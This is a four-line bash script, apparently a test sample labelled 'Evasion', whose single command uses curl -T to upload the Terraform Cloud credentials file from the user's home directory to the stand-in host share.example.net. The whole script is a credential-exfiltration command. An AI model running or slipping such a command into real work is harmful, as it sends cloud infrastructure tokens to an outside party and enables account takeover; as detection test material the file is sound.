#!/bin/bash
# Evasion: curl -T uploads the Terraform Cloud token file
set -u
curl -s -T "$HOME/.terraform.d/credentials.tfrc.json" https://share.example.net/in/
